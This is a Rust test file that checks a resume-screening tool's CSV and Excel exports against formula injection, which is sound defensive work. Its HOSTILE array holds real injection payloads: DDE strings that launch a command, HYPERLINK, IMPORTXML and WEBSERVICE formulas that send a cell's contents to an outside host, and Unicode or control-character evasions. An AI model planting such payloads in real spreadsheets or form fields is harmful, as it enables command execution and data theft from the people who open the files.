use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use bole_core::{AsOf, Choice, Decision, DocumentId, FieldId, Shortlist, Span};
use uuid::Uuid;
use zip::ZipArchive;

use super::about::{Line, of_shortlist};
use super::cell::Cell;
use super::{Desk, ExportRow, check_number, lines, write_csv, xlsx};
use crate::Reason;

/// What people write into resumes to have it run in a spreadsheet.
const HOSTILE: [&str; 32] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"look\")",
    "=IMPORTXML(CONCAT(\"http://example.com/?x=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.com\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{3000}＝1+1",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    "\0=1+1",
    " \0x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u{202e}=1+1",
    "\u{feff}=1+1",
    "\u{1b}[2J=1+1",
    "\u{7}+1",
    "\",=1+1,\"",
    "a\"\r\n=1+1,\"b",
    "';=1+1",
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
];

fn row(text: &str) -> ExportRow {
    let reason = Reason {
        component: "skills".to_owned(),
        name_zh: text.to_owned(),
        name_en: text.to_owned(),
        points: 12_345,
        span: Span { page: 2, start: 0, end: 1 },
        quote: text.to_owned(),
        meant: None,
    };
    ExportRow {
        place: Some(1),
        name: Some(text.to_owned()),
        score: Some(61_250),
        components: BTreeMap::from([("skills".to_owned(), 61_250), (text.to_owned(), 0)]),
        level: None,
        gates_unknown: vec![text.to_owned()],
        reasons: vec![reason],
        resume: DocumentId::of(b"resume"),
        source: text.to_owned(),
        as_of: Some(AsOf(jiff::civil::date(2026, 2, 10))),
        desk: Some(Desk {
            decisions: vec![Decision {
                resume: DocumentId::of(b"resume"),
                profile: "energy-storage".to_owned(),
                choice: Choice::Advance,
                by: text.to_owned(),
                at: jiff::Timestamp::UNIX_EPOCH,
            }],
            n_notes: 3,
            added_by: text.to_owned(),
            added_at: jiff::Timestamp::UNIX_EPOCH,
        }),
    }
}

fn shortlist(name: &str) -> Shortlist {
    Shortlist {
        id: Uuid::nil(),
        name: name.to_owned(),
        profile: "energy-storage".to_owned(),
        field: FieldId("energy".to_owned()),
        by: name.to_owned(),
        created_at: jiff::Timestamp::UNIX_EPOCH,
        n_entries: 1,
    }
}

/// The cells of a CSV, as RFC 4180 has them.
fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(csv).unwrap().strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let records = reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect());
    records.collect()
}

fn parts(workbook: Vec<u8>) -> BTreeMap<String, String> {
    let mut archive = ZipArchive::new(Cursor::new(workbook)).unwrap();
    let names: Vec<_> = archive.file_names().map(|name| name.unwrap().into_owned()).collect();
    let mut read = |name: String| {
        let mut text = String::new();
        archive.by_name(&name).unwrap().read_to_string(&mut text).unwrap();
        (name, text)
    };
    names.into_iter().map(&mut read).collect()
}

#[test]
fn nothing_hostile_becomes_a_formula_in_a_csv() {
    for hostile in HOSTILE {
        let mut csv = Vec::new();
        write_csv(&[row(hostile)], &mut csv).unwrap();
        let rows = cells(&csv);
        assert_eq!(rows.len(), 2, "{hostile:?}: {rows:?}");
        assert_eq!(rows[0].len(), rows[1].len());
        for cell in rows.iter().flatten() {
            let begins = cell.trim_start().chars().next();
            assert!(!begins.is_some_and(|scalar| "=+-@＝＋－＠".contains(scalar)), "{hostile:?}: {cell:?}");
            assert!(!cell.contains(char::is_control), "{hostile:?}: {cell:?}");
        }
        assert_eq!([&rows[1][0], &rows[1][1]], ["1", "61.250"]);
    }
}

#[test]
fn nothing_hostile_becomes_a_formula_or_a_link_in_a_workbook() {
    let rows = HOSTILE.map(row);
    for (hostile, row) in HOSTILE.iter().zip(rows.chunks(1)) {
        let parts = parts(xlsx::workbook(row, &of_shortlist(&shortlist(hostile))).unwrap());
        for sheet in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
            let xml = &parts[sheet];
            for what in ["<f>", "<f ", "hyperlink", "<is>"] {
                assert!(!xml.contains(what), "{hostile:?} gives {what}: {xml}");
            }
            // Only numbers, and strings by their index in the one table of strings.
            for cell in xml.split("<c ").skip(1) {
                let attributes = cell.split('>').next().unwrap();
                let is_number = !attributes.contains("t=\"");
                assert!(is_number || attributes.contains("t=\"s\""), "{hostile:?}: {cell}");
            }
        }
        assert!(!parts["xl/sharedStrings.xml"].contains("<f>"), "{hostile:?}");
        assert!(!parts.keys().any(|name| name.contains("calcChain") || name.contains("external")));
    }
}

#[test]
fn a_workbook_says_what_it_shows() {
    let lines = [Line { name: "People 总人数".to_owned(), value: Cell::Count(30) }];
    let workbook = xlsx::workbook(&[row("李明")], &lines).unwrap();
    assert_eq!(workbook, xlsx::workbook(&[row("李明")], &lines).unwrap());
    let parts = parts(workbook);
    let (sheet, strings) = (&parts["xl/worksheets/sheet1.xml"], &parts["xl/sharedStrings.xml"]);
    for text in [
        "Name 姓名",
        "Reason 1 理由1",
        "李明 李明 +12.345, page 2: 李明",
        "2026-02-10",
        "All decisions 全部决定",
    ] {
        assert!(strings.contains(text), "{text}: {strings}");
    }
    assert!(sheet.contains("<v>61.25</v>") && sheet.contains("state=\"frozen\""), "{sheet}");
    assert!(parts["xl/worksheets/sheet2.xml"].contains("<v>30</v>"));
    assert!(parts["xl/workbook.xml"].contains("name=\"Candidates\""));
    assert!(parts["docProps/core.xml"].contains("2000-01-01T00:00:00Z"), "{}", parts["docProps/core.xml"]);
}

#[test]
fn a_csv_is_what_rfc_4180_says() {
    let mut csv = Vec::new();
    let person = ExportRow { desk: None, components: BTreeMap::new(), ..row("An \"Ruo\", 安") };
    write_csv(&[person], &mut csv).unwrap();
    let resume = DocumentId::of(b"resume");
    let quoted = r#""An ""Ruo"", 安""#;
    let reason = r#""An ""Ruo"", 安 (An ""Ruo"", 安)""#;
    let expected = format!(
        "\u{feff}place,score,name,source,resume,as_of,not_known,reasons\r\n\
         1,61.250,{quoted},{quoted},{resume},2026-02-10,{quoted},{reason}\r\n"
    );
    assert_eq!(String::from_utf8(csv).unwrap(), expected);
}

#[test]
fn a_line_is_a_person() {
    let written = lines::values(&[row("李明\n安"), row("b")]).unwrap();
    let text = String::from_utf8(written).unwrap();
    let names: Vec<_> = text
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap()["name"].clone())
        .collect();
    assert_eq!(names, ["李明\n安", "b"]);
    assert!(text.lines().all(|line| line.contains("\"n_notes\":3")), "{text}");
}

#[test]
fn no_more_leave_than_may() {
    assert!(check_number(10_000).is_ok());
    assert!(check_number(10_001).is_err());
}
